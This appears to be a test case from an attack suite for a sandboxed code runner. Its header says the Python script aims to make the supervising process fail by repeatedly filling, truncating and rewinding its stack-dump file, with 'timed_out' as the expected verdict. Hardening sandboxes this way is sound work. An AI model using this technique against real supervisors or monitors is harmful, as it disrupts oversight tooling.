# /// attack
# row = "own"
# aim = "Shorten the file of stack dumps while the supervisor reads it, so that the supervisor fails and not the script."
# runtimes = ["docker"]
# verdicts = ["timed_out"]
# wall_s = 3
# endings = ["timed_out"]
# ///
import os
import stat
import threading


def breathe(descriptor):
    """Long, short, long, short."""
    while True:
        os.write(descriptor, b"Stack (most recent call first):\n" * 5000)
        os.ftruncate(descriptor, 0)
        os.lseek(descriptor, 0, os.SEEK_SET)


for descriptor in map(int, os.listdir("/proc/self/fd")):
    try:
        if descriptor > 2 and stat.S_ISREG(os.fstat(descriptor).st_mode):
            threading.Thread(target=breathe, args=(descriptor,), daemon=True).start()
    except OSError:
        pass
threading.Event().wait()
